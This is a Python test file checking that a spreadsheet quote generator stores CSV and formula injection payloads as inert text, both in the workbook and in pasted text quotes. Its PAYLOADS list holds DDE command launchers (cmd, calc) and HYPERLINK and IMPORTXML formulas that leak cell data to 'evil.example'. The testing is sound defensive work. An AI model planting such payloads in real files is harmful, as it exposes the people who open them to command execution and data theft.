"""Issue 5, hostile text: formula and DDE payloads in every text column never come out as something a spreadsheet
would execute, neither in the refreshed workbook nor in the plain-text quotes.

Every text column of every input sheet (and the company profile on Settings) is filled with payloads in turn.
In the workbook, a payload must be stored as a text cell and never inside an <f> element. In a text quote, which
people paste into spreadsheets, no line and no ` | ` column may start with = + - @ (OWASP's CSV-injection rule),
except pure rule lines such as `-----+-----`.
"""

from __future__ import annotations

import copy
from pathlib import Path

import pytest
from conftest import refresh
from corpus import data
from corpus import ooxml as ox
from corpus.xlsxwriter_books import Variant, build
from partdiff import read_parts

from tradexl.schema import INPUT_SHEETS

PAYLOADS = (
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+cmd|' /C notepad'!A0",
    "-2+3+cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?leak="&A1,"Error: click here")',
    '=IMPORTXML(CONCAT("http://evil.example/?v=",A1),"//a")',
    '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
    "\t=1+1",
    " =1+1",
    "＝cmd|' /C calc'!A0",  # full-width '=': becomes '=' when folded to ASCII for the text quote
)
MARKERS = ("cmd|", "HYPERLINK", "IMPORTXML", "DDE(", "1+1")
KEEP = {"Country", "Customer ID", "Inquiry ID", "Quote No", "Currency"}
"""Columns left readable so rows still link and get a region (the rest carry payloads)."""
RULE_CHARS = set("-+=_*| ")


def poisoned() -> tuple[dict[str, list[dict]], dict[str, str]]:
    rows = copy.deepcopy(data.ROWS)
    n = 0
    for sheet in INPUT_SHEETS:
        text_cols = [c.name for c in sheet.user_columns if c.kind == "text" and c.name not in KEEP]
        for row in rows[sheet.key]:
            for col in text_cols:
                row[col] = PAYLOADS[n % len(PAYLOADS)]
                n += 1
    company = dict(data.COMPANY)
    for i, key in enumerate(("Company Name", "Awards", "Contact Person", "Phone")):
        company[key] = PAYLOADS[i]
    return rows, company


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, object]:
    rows, company = poisoned()
    path = build(tmp_path_factory.mktemp("hostile"), Variant("Hostile.xlsm", vba=True), rows, company)
    return path, refresh(path)


def test_payloads_in_the_workbook_are_text_never_formulas(hostile: tuple[Path, object]) -> None:
    path, result = hostile
    parts = read_parts(path)
    sheets = ox.sheet_parts(parts)
    names = [s.name for s in result.sheets] + ["Inquiries", "Customers"]
    texts: set[str] = set()
    for name in names:
        for formula in ox.formulas(parts, sheets[name]):
            assert not any(m in formula for m in MARKERS), f"{name}: payload written as formula {formula!r}"
        for cell in ox.cells(parts, sheets[name]).values():
            text = ox.text_of(cell)
            if cell.formula is None and cell.kind in {"text", "str"}:
                texts.add(text)
            elif any(m in text for m in MARKERS):
                raise AssertionError(f"{name}: payload in a non-text cell {cell}")
    generated_texts = set()
    for spec in result.sheets:
        for cell in ox.cells(parts, sheets[spec.name]).values():
            generated_texts.add(ox.text_of(cell))
    reached = [p for p in PAYLOADS if any(p in t for t in generated_texts)]
    assert len(reached) >= 3, f"too few payloads reached the generated sheets to prove anything: {reached}"


def _segments(line: str) -> list[str]:
    return [line, *line.split(" | "), *line.split("\t")]


def test_text_quotes_never_start_a_line_or_column_with_a_formula_trigger(hostile: tuple[Path, object]) -> None:
    from tradexl.fileengine.reader import read_workbook
    from tradexl.operations import text_quotes

    path, _ = hostile
    quotes = text_quotes(read_workbook(path), data.TODAY)
    assert quotes, "no text quotes"
    bad = []
    for region, text in quotes.items():
        assert any(m in text for m in ("cmd", "HYPERLINK")), f"{region}: payloads did not reach the quote"
        for number, line in enumerate(text.splitlines(), start=1):
            for segment in _segments(line):
                s = segment.strip()
                if s and s[0] in "=+-@" and not set(s) <= RULE_CHARS:
                    bad.append(f"{region} line {number}: {line!r}")
                    break
    assert not bad, "text quote lines a spreadsheet would run as formulas:\n" + "\n".join(bad[:12])
